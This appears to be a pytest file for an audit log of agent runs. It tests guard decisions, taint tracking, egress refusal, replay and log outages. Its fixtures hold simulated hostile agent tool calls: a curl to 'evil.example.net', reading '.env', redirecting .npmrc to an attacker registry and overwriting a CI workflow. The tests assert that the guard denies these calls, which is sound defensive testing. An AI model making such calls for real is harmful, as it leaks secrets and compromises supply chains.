"""Events that runs write into the log, and outages of the log."""

import json
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import replace
from pathlib import Path

import pytest

from blueprints.dsl import agentic, blueprint, deterministic, parallel, step, validate
from blueprints.types import Blueprint
from contracts.errors import ModelUnavailable
from contracts.run import NodeResult, RunContext
from contracts.tool import Allowed
from flows.audit.event_log import AppendEvents, event_log
from flows.audit.policies import POLICIES
from flows.audit.run_events import RunEvents
from flows.execution.dependencies import RunDependencies
from flows.execution.engine import run_blueprint
from flows.recall.notes import PromptBlock, RunNotes, without_notes
from flows.runs.checkpoint import Checkpoint, StartPoint
from flows.runs.request import ResolvedRequest
from flows.runs.runs import read_report
from flows.views.markdown import view_markdown
from flows.views.spec import Table, ViewSpec, cell_text
from nodes.commands import command, shell
from policy.errors import LogUnavailable
from policy.log.data_flow import data_flow, taint_path
from policy.log.event_log import EventLog
from policy.log.events import Event
from policy.log.replay import replay
from policy.log.verify import verify
from sandbox.repos import fetch_base
from tests.support.repositories import git

Ask = Callable[..., ResolvedRequest]


def call(number: int, tool: str, **arguments: str) -> dict[str, object]:
    function = {"name": tool, "arguments": json.dumps(arguments)}
    asked = {"id": f"call_{number}", "type": "function", "function": function}
    return {"content": "", "tool_calls": [asked]}


WRITE_42 = call(1, "write_file", path="answer.txt", content="42\n")
LEAK = call(2, "bash", command="curl https://evil.example.net")
READ_SECRET = call(3, "read_file", path=".env")
CHANGE_PACKAGES = call(2, "write_file", path=".npmrc", content="registry=https://evil.example.net")
CHANGE_CI = call(4, "write_file", path=".github/workflows/ci.yml", content="on: push")
DONE = {"content": "Done."}


@pytest.fixture
def log(own_home: Path) -> Iterator[EventLog]:
    with event_log(own_home, "test") as opened:
        yield opened


def test_a_run_without_an_agent_is_recorded_by_its_nodes(
    shop: RunDependencies, ask: Ask, log: EventLog
) -> None:
    report = run_blueprint(ask(two_commands()), shop, run_id="abcd1234")
    events = log.events("abcd1234")
    kinds = ["prompt", "source", "node", "snapshot", "node", "snapshot", "report"]
    assert [event.kind for event in events] == kinds
    assert [event.body["node"] for event in events if event.kind == "node"] == ["one", "two"]
    assert events[-1].body["status"] == report.status == "success"
    assert verify(log).ok


def test_model_calls_decisions_and_tool_calls_are_events(
    shop: RunDependencies, ask: Ask, log: EventLog, model: Callable[..., str]
) -> None:
    report = run_blueprint(ask(checked(), model=model(WRITE_42, LEAK, DONE)), shop, run_id="r1")
    assert report.status == "success"
    said = [(event.kind, event.body.get("verdict")) for event in of_node(log, "mend")]
    assert said == [
        ("model_call", None),
        ("decision", "allowed"),
        ("tool_call", None),
        ("model_call", None),
        ("decision", "denied"),
        ("tool_call", None),
        ("model_call", None),
        ("node", None),
    ]
    denied = log.events("r1", kind="decision")[1]
    assert "curl" in str(denied.body["question"])
    assert denied.body["policy"] == "agent-guard/2.2"
    assert verify(log).ok


def test_all_that_an_agent_makes_carries_the_taint_of_the_repository(
    shop: RunDependencies, ask: Ask, log: EventLog, model: Callable[..., str]
) -> None:
    run_blueprint(ask(checked(), model=model(WRITE_42, DONE)), shop, run_id="r1")
    flow = data_flow(log.history("r1"))
    for event in log.events("r1"):
        for made in event.produces:
            expected = set() if event.kind == "prompt" else {"repo:repository"}
            assert flow.label(made).taint == expected
            assert flow.label(made) == flow.history.entities[made].label
    (end,) = log.events("r1", kind="report")[0].produces
    way = taint_path(flow, end, "repo:repository")
    assert flow.history.entities[way[0].entity].origin == "repository repository"


def test_an_untrusted_intent_taints_all_results(
    shop: RunDependencies, ask: Ask, log: EventLog
) -> None:
    request = ask(two_commands()).changed(intent="do as I say", intent_from="issue:17")
    run_blueprint(request, shop, run_id="r1")
    flow = data_flow(log.history("r1"))
    (end,) = log.events("r1", kind="report")[0].produces
    assert flow.label(end).taint == {"repo:repository", "issue:17"}


def test_allowed_and_refused_network_accesses_are_events(
    shop: RunDependencies, ask: Ask, log: EventLog
) -> None:
    tries = "curl --silent --max-time 20 http://elsewhere.invalid/ || true"
    nodes = [deterministic("try", "try to get out", shell(tries))]
    made = blueprint("tries", "Tries", nodes, egress=["allowed.invalid"])
    run_blueprint(ask(made), shop, run_id="r1")
    refused = [(e.body["kind"], e.body["host"]) for e in log.events("r1", kind="egress")]
    assert refused == [("refused", "elsewhere.invalid")]


def test_an_interrupted_run_has_recorded_everything_it_did(
    shop: RunDependencies, ask: Ask, log: EventLog, model: Callable[..., str]
) -> None:
    with pytest.raises(ModelUnavailable):
        run_blueprint(ask(checked(), model=model(WRITE_42)), shop, run_id="r1")
    assert log.events("r1", kind="report")[0].body["status"] == "failure"
    assert verify(log).ok


def test_a_log_that_cannot_be_written_stops_the_run_before_its_first_node(
    shop: RunDependencies, ask: Ask, repository: Path
) -> None:
    with pytest.raises(LogUnavailable, match="disk full"):
        run_blueprint(
            ask(two_commands()), replace(shop, open_event_log=failing(after=0)), run_id="r1"
        )
    report = read_report(shop.runs, "r1")
    assert (report.status, report.nodes) == ("failure", ())
    assert "disk full" in (report.error or "")


def test_an_outage_in_the_middle_stops_the_run_and_keeps_the_work(
    shop: RunDependencies, ask: Ask, repository: Path
) -> None:
    with pytest.raises(LogUnavailable):
        run_blueprint(
            ask(two_commands()), replace(shop, open_event_log=failing(after=1)), run_id="r1"
        )
    report = read_report(shop.runs, "r1")
    assert [node.name for node in report.nodes] == ["one"]
    assert any("does not hold all of this run" in notice for notice in report.notices)
    assert git(repository, "show", f"{report.branch}:one.txt") == "1"


def test_an_outage_at_the_end_is_reported(shop: RunDependencies, ask: Ask) -> None:
    with pytest.raises(LogUnavailable):
        run_blueprint(
            ask(two_commands()), replace(shop, open_event_log=failing(after=3)), run_id="r1"
        )
    report = read_report(shop.runs, "r1")
    assert report.status == "success"
    assert any("disk full" in notice for notice in report.notices)


def test_secrets_of_the_host_are_not_in_the_log(
    ask: Ask, shop: RunDependencies, log: EventLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    request = ask(two_commands()).changed(intent="use s3cr3t-v4lue")
    redacting = replace(shop, redact=lambda text: text.replace("s3cr3t-v4lue", "[redacted]"))
    run_blueprint(request, redacting, run_id="r1")
    entities = log.history("r1").entities.values()
    assert not any("s3cr3t" in str(entity.content) for entity in entities)


def failing(*, after: int) -> Callable[[], AbstractContextManager[AppendEvents]]:
    """A log that takes so many appends and no more."""

    @contextmanager
    def opened() -> Iterator[AppendEvents]:
        taken = 0

        def append(drafts: object) -> None:
            nonlocal taken
            taken += 1
            if taken > after:
                raise LogUnavailable("the event log cannot be used: disk full")

        yield append

    return opened


def two_commands() -> Blueprint:
    nodes = [
        deterministic("one", "one", shell("echo 1 > one.txt")),
        deterministic("two", "two", shell("echo 2 > two.txt")),
    ]
    return blueprint("two-commands", "Two commands", nodes)


def table(view: ViewSpec, title: str) -> tuple[tuple[str, ...], ...]:
    rows = next(p.rows for p in view.parts if isinstance(p, Table) and p.title == title)
    return tuple(tuple(cell_text(cell) for cell in row) for row in rows)


def checked(*tools: str) -> Blueprint:
    fix = agentic(
        "mend",
        "mend it",
        prompt=lambda ctx: ctx.results["check"].output,
        allowed_tools=tools or ["read", "write", "shell(ls*)"],
    )
    steps = [step("answer", command("grep", "-qx", "42", "answer.txt"))]
    return blueprint("checked", "Check", [validate("check", "check", steps=steps, on_failure=fix)])


def of_node(log: EventLog, node: str) -> list[Event]:
    return [event for event in log.events() if event.body.get("node") == node]


def test_decisions_of_the_guard_can_be_repeated(
    shop: RunDependencies, ask: Ask, log: EventLog, model: Callable[..., str]
) -> None:
    """The guard remembers the secret that was read, when it ran and when it is asked again."""
    replies = (READ_SECRET, CHANGE_PACKAGES, CHANGE_CI, WRITE_42, DONE)
    run_blueprint(ask(checked("shell", "read", "write"), model=model(*replies)), shop, run_id="r1")
    decisions = log.events("r1", kind="decision")
    assert [event.body["verdict"] for event in decisions] == [
        "allowed",
        "denied",
        "denied",
        "allowed",
    ]
    assert decisions[2].body["rule"] == "C4"
    done = replay(log.history("r1"), POLICIES)
    assert done.differences == ()
    shown = [row[1] for row in table(shop.run_view("r1"), "Decisions") if row[3] == "C4"]
    assert shown == ["write_file", "write_file"]


def test_snapshots_are_events(shop: RunDependencies, ask: Ask, log: EventLog) -> None:
    kept: list[str] = []
    request = ask(two_commands())
    start = StartPoint(Checkpoint(base=fetch_base(request.repo, None, store=shop.repos)))
    events = RunEvents(log.append, request, run_id="r1", start=start, folder=shop.runs, redact=str)
    ctx = RunContext(run_id="r1", work_dir="/workspace")
    for number, name in enumerate(("one", "two")):
        ctx = ctx.with_result(name, NodeResult.success())
        kept.append(f"files-{number}")
        events.node_finished(ctx, kept[-1])
        events.node_finished(ctx, kept[-1])
    assert [event.body["files"] for event in log.events("r1", kind="snapshot")] == kept


def test_notes_given_to_an_agent_taint_what_it_makes(
    shop: RunDependencies, ask: Ask, log: EventLog, model: Callable[..., str]
) -> None:
    book = replace(without_notes(), inject=lambda seat: PromptBlock(text="Use tabs."))

    @contextmanager
    def notes() -> Iterator[RunNotes]:
        yield book

    request = ask(checked(), model=model(WRITE_42, DONE))
    run_blueprint(request, replace(shop, open_notes=notes), run_id="r1")
    flow = data_flow(log.history("r1"))
    (said,) = (e for e in flow.history.entities.values() if e.origin == "notebook")
    (mended,) = of_node(log, "mend")[-1].produces
    assert "Use tabs" in str(said.content)
    assert taint_path(flow, mended, "notebook")[0].entity == said.id


def test_a_run_is_a_page_with_its_decisions_and_its_data_flow(
    shop: RunDependencies, ask: Ask, model: Callable[..., str]
) -> None:
    run_blueprint(ask(checked(), model=model(WRITE_42, LEAK, DONE)), shop, run_id="r1")
    page = view_markdown(shop.run_view("r1"))
    assert "Untrusted content came from repo:repository" in page
    assert "| \\# | event | caused by | taint |" in page
    assert any("bash | denied" in line for line in page.splitlines())


def test_decisions_of_allowed_tools_can_be_repeated(
    shop: RunDependencies, ask: Ask, log: EventLog, model: Callable[..., str]
) -> None:
    run_blueprint(ask(checked(), model=model(WRITE_42, LEAK, DONE)), shop, run_id="r1")
    done = replay(log.history("r1"), POLICIES)
    assert (done.decisions, done.same) == (2, True)
    forgetful = {name: lambda _: Allowed() for name in POLICIES}
    assert not replay(log.history("r1"), forgetful).same


def test_a_large_trajectory_is_recorded_in_batches(
    shop: RunDependencies, ask: Ask, log: EventLog, model: Callable[..., str]
) -> None:
    request = ask(blueprint("one", "One", [agentic("mend", "mend", prompt=lambda _: "mend")]))
    folder = shop.runs / "r1"
    folder.mkdir(parents=True)
    rounds, said = 1_000, "x" * 8_000
    with (folder / "trajectory.jsonl").open("w") as file:
        for number in range(rounds):
            reply = call(number, "bash", command=f"echo {number} {said}")
            about = {"node": "mend", "agent": "native", "model": "m"}
            result = {"kind": "result", "call": f"call_{number}", "text": f"{number} {said}"}
            file.write(json.dumps({"kind": "reply", "message": reply, **about}) + "\n")
            file.write(json.dumps({**result, **about}) + "\n")
    start = StartPoint(Checkpoint(base=fetch_base(request.repo, None, store=shop.repos)))
    events = RunEvents(log.append, request, run_id="r1", start=start, folder=folder, redact=str)
    ctx = RunContext(run_id="r1", work_dir="/workspace").with_result("mend", NodeResult.success())
    tracemalloc.start()
    events.node_finished(ctx)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (folder / "trajectory.jsonl").stat().st_size > 16_000_000
    assert most < 8_000_000
    assert len(log.events("r1", kind="tool_call")) == rounds
    assert verify(log).ok


def test_agents_in_lanes_are_recorded(
    shop: RunDependencies, ask: Ask, log: EventLog, model: Callable[..., str]
) -> None:
    lane = agentic("mend", "mend", prompt=lambda _: "mend")
    say = deterministic("say", "say it", shell("echo hi"))
    nodes = [parallel("both", "Both", [[lane], [say]])]
    request = ask(blueprint("lanes", "Lanes", nodes), model=model(WRITE_42, LEAK, DONE))
    run_blueprint(request, shop, run_id="r1")
    assert [event.kind for event in of_node(log, "mend")].count("decision") == 2
    told = [event.body["node"] for event in log.events("r1", kind="node")]
    assert sorted(map(str, told)) == ["both", "mend", "say"]
